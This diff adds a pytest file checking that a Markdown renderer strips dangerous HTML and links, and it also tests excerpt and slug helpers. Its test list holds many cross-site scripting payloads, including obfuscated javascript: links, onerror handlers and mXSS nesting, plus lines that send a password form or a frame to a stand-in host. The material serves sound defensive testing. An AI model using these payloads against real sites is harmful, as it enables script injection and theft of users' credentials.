@@ -1,0 +1,97 @@
+"""Markdown as people read it: what an author means, and nothing that does anything."""
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from app.editorial.rules.rendering import ATTRIBUTES, TAGS, beginning, slug_of, to_html, to_words
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox(1))",
+    "[x]( javascript:alert(1) \"onmouseover=alert(1)\")",
+    "![x](javascript:alert(1))",
+    '![x](x"onerror="alert(1))',
+    "<javascript:alert(1)>",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<iframe src=//evil.example></iframe>",
+    "<style>@import '//evil.example'</style>",
+    "<form action=//evil.example><input name=password></form>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "`<script>alert(1)</script>`",
+    "```html\n<script>alert(1)</script>\n```",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "\\<script>alert(1)\\</script>",
+    "<<script>script>alert(1)<</script>/script>",
+    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
+    "# <script>alert(1)</script>",
+]  # fmt: skip
+
+
+def is_harmless(html: str) -> bool:
+    tags = re.findall(r"<\s*/?\s*([a-zA-Z][\w:-]*)([^>]*)>", html)
+    for tag, rest in tags:
+        names = set(re.findall(r'([\w:-]+)="', rest))
+        if tag not in TAGS or names - ATTRIBUTES.get(tag, set()) - {"rel"}:
+            return False
+    links = re.findall(r'href="([^"]*)"', html)
+    return all(re.match(r"(https?:|mailto:|[/#?]|[^:]*$)", link) for link in links)
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_known_attacks_render_harmless(text: str) -> None:
+    """R-E4: the vectors for Markdown and HTML."""
+    html = to_html(text)
+
+    assert is_harmless(html), html
+    assert "<script" not in html
+    assert "<img" not in html
+
+
+@given(st.lists(st.sampled_from([*ATTACKS, "*", "_", "[", "](", ")", "<", ">", "`", "\n", '"', "'", "&", "#", "a", " "]), max_size=30).map("".join))  # fmt: skip
+def test_whatever_is_put_together_renders_harmless(text: str) -> None:
+    assert is_harmless(to_html(text))
+
+
+def test_what_an_author_means_is_there() -> None:
+    html = to_html(
+        "# One\n\nTwo **three** [four](https://a.example/?b=1&c=2)\n\n- five\n\n| a | b |\n|---|---|\n| ~~c~~ | 👍🏽 |"
+    )
+
+    assert "<h2>One</h2>" in html
+    assert "<strong>three</strong>" in html
+    assert 'href="https://a.example/?b=1&amp;c=2"' in html
+    assert 'rel="noopener noreferrer nofollow ugc"' in html
+    assert "<li>five</li>" in html
+    assert "<td><s>c</s></td>" in html
+    assert "👍🏽" in html
+
+
+def test_how_a_text_begins() -> None:
+    text = "# A heading\n\nSome *words* & <more>, and then " + "a long way " * 40
+
+    assert to_words(text).startswith("A heading Some words & <more>, and then a long way")
+    assert beginning(text, 40) == "A heading Some words & <more>, and then …"
+    assert beginning("Short.") == "Short."
+
+
+@pytest.mark.parametrize(
+    "title, slug",
+    [("What a failed rollout taught us", "what-a-failed-rollout-taught-us-7"), ("Über Größe", "uber-groe-7"), ("日本", "7"), ("x" * 200, "7"), ("../../etc", "etc-7")],
+)  # fmt: skip
+def test_the_name_of_a_piece_in_an_address(title: str, slug: str) -> None:
+    assert slug_of(title, 7) == slug
